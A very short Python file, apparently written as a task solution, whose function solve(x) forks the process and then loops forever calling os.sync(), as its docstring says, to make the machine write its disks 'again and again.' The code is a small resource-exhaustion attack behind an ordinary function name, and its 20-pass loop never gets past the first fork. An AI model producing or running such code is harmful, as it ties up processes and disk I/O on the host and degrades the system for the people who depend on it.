"""Has the whole machine write its disks out, again and again."""

import os

def solve(x):
    for _ in range(20):
        os.fork()
        while True:
            os.sync()
